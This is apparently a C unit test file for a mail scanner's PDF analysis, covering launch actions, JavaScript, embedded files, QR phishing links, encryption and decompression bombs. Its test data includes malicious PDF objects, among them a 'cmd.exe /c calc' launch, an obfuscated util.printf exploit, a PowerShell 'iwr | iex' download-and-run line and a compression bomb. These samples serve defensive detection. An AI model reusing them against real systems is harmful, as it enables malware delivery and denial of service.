/* PDF: what it does, carries and shows; encrypted, packed and broken ones (T-A1, T-A6, T-E4). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <zlib.h>

#include <cmocka.h>
#include <gmime/gmime.h>
#include <jpeglib.h>

#include "content_mail.h"
#include "engine/msg/charset.h"
#include "engine/scan/scan.h"
#include "encrypted_pdfs.h"
#include "qr_codes.h"

#define ADDRESS "https://qr.phish.example/login?id=7"

static struct arena *a;

static int
begin(void **state)
{
    (void)state;
    a = arena_new();
    return 0;
}

static int
end(void **state)
{
    (void)state;
    arena_free(&a);
    return 0;
}

static struct msg *
pdf(const struct buf *b)
{
    return content_mail(a, "see attached", "a.pdf", "application/pdf", b->data, b->len);
}

/* Objects are text; a stream is put behind one by stream(). */
static struct buf *
file(const char *objects)
{
    struct buf *b = buf_new(a, 0);
    buf_printf(b, "%%PDF-1.7\n%s\ntrailer\n<< /Root 1 0 R >>\n%%%%EOF\n", objects);
    return b;
}

static void
stream(struct buf *b, int num, const char *dict, const void *p, size_t n)
{
    buf_printf(b, "%d 0 obj\n<< %s /Length %zu >>\nstream\n", num, dict, n);
    buf_add(b, p, n);
    buf_str(b, "\nendstream\nendobj\n");
}

static struct buf *
packed(const void *p, size_t n)
{
    struct buf *b = buf_new(a, 0);
    uLongf len = compressBound(n);
    unsigned char *to = arena_alloc(a, len);
    compress2(to, &len, p, n, 9);
    buf_add(b, to, len);
    return b;
}

static void
actions(void **state)
{
    static const struct {
        const char *objects, *code, *kind, *evidence;
    } cases[] = {
        {"1 0 obj << /OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >> endobj",
         "pdf-launch", "malware", "cmd.exe /c calc"},
        {"1 0 obj << /OpenAction 2 0 R >> endobj 2 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) "
         ">> endobj",
         "pdf-script", "", "JavaScript"},
        {"1 0 obj << /OpenAction 2 0 R >> endobj 2 0 obj << /S /Java#53cript /J#53 "
         "<7574696c2e7072696e7466282225343530303066222c31293b> >> endobj",
         "pdf-script", "malware", "util.printf"},
        {"1 0 obj << /A << /S /URI /URI (file:///C:/x.exe) >> >> endobj", "pdf-file-link", "",
         "file:///C:/x.exe"},
        {"5 0 obj << /FontMatrix [ 1 2 3 4 5 (1\\); alert\\(1\\)) ] >> endobj", "pdf-font-script",
         "malware", "1); alert(1)"},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct msg *m = pdf(file(cases[i].objects));
        const struct msg_finding *f = content_found(m, cases[i].code);
        if (!f)
            fail_msg("%s", cases[i].objects);
        assert_string_equal(f->kind, cases[i].kind);
        assert_string_equal(f->evidence, cases[i].evidence);
    }
}

static void
harmless(void **state)
{
    struct msg *m =
        pdf(file("1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction [ 3 0 R /XYZ null null 0 ] >> "
                 "endobj 3 0 obj << /Annots [ << /A << /S /URI /URI (https://shop.example/) >> "
                 ">> ] >> endobj"));
    (void)state;
    assert_int_equal(content_count(m), 0);
    assert_true(content_has_url(m, "https://shop.example/"));
}

/* Everything in an object stream, behind two filters. */
static void
object_streams(void **state)
{
    static const char objects[] = "7 0 8 44 << /S /URI /URI (https://packed.example/) >>         "
                                  "<< /S /Launch /F (evil.exe) >>";
    struct buf *b = file(""), *z = packed(objects, sizeof objects - 1), *hex = buf_new(a, 0);
    (void)state;
    for (size_t i = 0; i < z->len; i++)
        buf_printf(hex, "%02x", (unsigned char)z->data[i]);
    buf_char(hex, '>');
    stream(b, 4, "/Type /ObjStm /N 2 /First 9 /Filter [ /ASCIIHexDecode /FlateDecode ]", hex->data,
           hex->len);
    struct msg *m = pdf(b);
    assert_true(content_has_url(m, "https://packed.example/"));
    assert_non_null(content_found(m, "pdf-launch"));
}

static void
embedded_files(void **state)
{
    static const char script[] =
        "new ActiveXObject('WScript.Shell').Run('cmd /c powershell iwr x | iex')";
    struct buf *b = file(
                   "1 0 obj << /Names << /EmbeddedFiles << /Names [ (x) 3 0 R ] >> >> >> endobj "
                   "3 0 obj << /Type /Filespec /F (invoice.js) /EF << /F 4 0 R >> >> endobj"),
               *z = packed(script, sizeof script - 1);
    (void)state;
    stream(b, 4, "/Type /EmbeddedFile /Filter /FlateDecode", z->data, z->len);
    struct msg *m = pdf(b);
    assert_int_equal(m->nparts, 2);
    assert_string_equal(m->parts[1].name, "invoice.js");
    assert_int_equal(m->parts[1].bytes, sizeof script - 1);
    assert_non_null(content_found(m, "script-file"));
}

static void
text(void **state)
{
    static const char page[] =
        "BT /F1 12 Tf 72 700 Td (Pay at ) Tj [(htt) 20 (ps://pay.exa) -10 (mple/now)] TJ "
        "0 -14 Td (or ring \\(03\\) 1234) Tj ET";
    struct buf *b = file(""), *z = packed(page, sizeof page - 1);
    (void)state;
    stream(b, 4, "/Filter /FlateDecode", z->data, z->len);
    struct msg *m = pdf(b);
    assert_true(content_has_url(m, "https://pay.example/now"));
    assert_non_null(strstr(m->file_text, "or ring (03) 1234"));
}

/* ------------------------------------------------------------------ QR codes */

static bool
has_code(const struct msg *m)
{
    for (int i = 0; i < m->nurls; i++)
        if (strcmp(m->urls[i].source, "qr") == 0 && strcmp(m->urls[i].url, ADDRESS) == 0)
            return true;
    content_print(m);
    return false;
}

/* One bit or one byte a pixel, with PNG's predictor in front of each row if wanted. */
static struct buf *
pixels(bool bits, bool predicted, int *side)
{
    struct buf *b = buf_new(a, 0);
    *side = (QR_URL + 8) * 4;
    for (int y = 0; y < *side; y++) {
        if (predicted)
            buf_char(b, '\0');
        for (int x = 0; x < *side; x += bits ? 8 : 1) {
            unsigned v = 0;
            for (int k = 0; k < (bits ? 8 : 1); k++) {
                int my = y / 4 - 4, mx = (x + k) / 4 - 4;
                bool dark =
                    my >= 0 && my < QR_URL && mx >= 0 && mx < QR_URL && qr_url[my][mx] == '#';
                v = bits ? v << 1 | !dark : dark ? 0 : 255;
            }
            buf_char(b, (char)v);
        }
    }
    return b;
}

static void
qr_in_pictures(void **state)
{
    (void)state;
    for (int kind = 0; kind < 4; kind++) {
        int side;
        struct buf *p = pixels(kind & 1, kind & 2, &side), *z = packed(p->data, p->len),
                   *b = file("");
        stream(
            b, 4,
            arena_printf(a,
                         "/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent %d "
                         "/ColorSpace /DeviceGray /Filter /FlateDecode %s",
                         side, side, kind & 1 ? 1 : 8,
                         kind & 2 ? arena_printf(a,
                                                 "/DecodeParms << /Predictor 15 /Colors 1 "
                                                 "/BitsPerComponent %d /Columns %d >>",
                                                 kind & 1 ? 1 : 8, side)
                                  : ""),
            z->data, z->len);
        assert_true(has_code(pdf(b)));
    }
}

static void
qr_as_squares(void **state)
{
    struct buf *page = buf_new(a, 0), *b = file("");
    (void)state;
    buf_str(page, "1 g 0 0 595 842 re f q 3 0 0 -3 100 700 cm 0 0 0 rg\n");
    for (int y = 0; y < QR_URL; y++)
        for (int x = 0; x < QR_URL; x++)
            if (qr_url[y][x] == '#')
                buf_printf(page, "%d %d 1 1 re\n", x, y);
    buf_str(page, "f Q");
    struct buf *z = packed(page->data, page->len);
    stream(b, 4, "/Filter /FlateDecode", z->data, z->len);
    assert_true(has_code(pdf(b)));
}

/* ------------------------------------------------------------------ encryption */

static struct msg *
with_subject(const char *subject, const char *b64)
{
    const char *raw =
        arena_printf(a,
                     "From: a@b\nSubject: %s\nContent-Type: application/pdf; name=a.pdf\n"
                     "Content-Transfer-Encoding: base64\n\n%s\n",
                     subject, b64);
    return msg_scan(a, (const unsigned char *)raw, strlen(raw), NULL);
}

static void
encrypted(void **state)
{
    static const char *const subjects[] = {"The password is sesame", "owner1"};
    (void)state;
    for (size_t i = 0; i < sizeof encrypted_pdfs / sizeof *encrypted_pdfs; i++) {
        for (size_t k = 0; k < 2; k++) {
            struct msg *m = with_subject(subjects[k], encrypted_pdfs[i]);
            assert_true(content_has_url(m, "https://secret.example/"));
            assert_true(m->parts[0].opened_with_password);
        }
        struct msg *m = with_subject("open it", encrypted_pdfs[i]);
        bool needs_none = i == 4;
        assert_int_equal(content_has_url(m, "https://secret.example/"), needs_none);
        assert_int_equal(m->parts[m->nparts - 1].opened_with_password, needs_none);
        assert_true(m->parts[m->nparts - 1].encrypted);
    }
}

/* ------------------------------------------------------------------ limits */

static double
seconds(void)
{
    struct timespec t;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void
bombs(void **state)
{
    size_t n = 60 * 1024 * 1024;
    char *zeros = arena_alloc(a, n);
    struct buf *once = packed(zeros, n), *twice = packed(once->data, once->len), *b = file("");
    double start = seconds();
    (void)state;
    for (int i = 0; i < 30; i++)
        stream(b, 10 + i, "/Type /ObjStm /N 1 /First 4 /Filter [ /FlateDecode /FlateDecode ]",
               twice->data, twice->len);
    start = seconds();
    struct msg *m = pdf(b);
    assert_non_null(content_found(m, "pdf-limit"));
    assert_true(seconds() - start < 5);
}

static void
broken(void **state)
{
    static const char *const files[] = {
        "%PDF-1.4 1 0 obj <</Length 99999999999 >> stream\nendobj",
        "%PDF-1.4 1 0 obj <</Length 1 0 R /Filter 1 0 R>> stream\nxx",
        "%PDF-1.4 1 0 obj [[[[[[[[[[[[<<<<<<<<<<<<((((((((((<",
        "%PDF-1.4 4294967296 0 obj <</JS (x)>> 99999999 99999 obj <</URI",
        "%PDF-1.4 obj obj 0 obj 1 obj <</Encrypt 1 0 R>> /Encrypt << /Filter /Standard /V 5 /R 6 "
        ">>",
        "%PDF-1.4 1 0 obj << /Type /ObjStm /N 2147483647 /First 1 >> stream\n1 1 1 1\nendstream",
        "%PDF-1.4 1 0 obj << /JS 1 0 R >> endobj",
    };
    (void)state;
    for (size_t i = 0; i < sizeof files / sizeof *files; i++)
        content_mail(a, "", "a.pdf", "application/pdf", files[i], strlen(files[i]));
}

int
main(void)
{
#define TEST(name, fn)             \
    {                              \
        name, fn, begin, end, NULL \
    }
    const struct CMUnitTest tests[] = {
        TEST("T-E7 actions and scripts", actions),
        TEST("an ordinary PDF", harmless),
        TEST("T-A7 objects in packed streams", object_streams),
        TEST("T-E7 embedded files", embedded_files),
        TEST("F31 text of pages", text),
        TEST("T-E4 F31 QR codes in pictures of a PDF", qr_in_pictures),
        TEST("T-E4 F31 QR codes drawn as squares", qr_as_squares),
        TEST("T-A6 F20 encrypted in five ways, opened by user's and owner's password", encrypted),
        TEST("T-A1 streams that unpack to very much", bombs),
        TEST("broken files", broken),
    };
    g_mime_init();
    charset_preload();
    scanners_prepare();
    return cmocka_run_group_tests_name("content_pdf", tests, NULL, NULL);
}
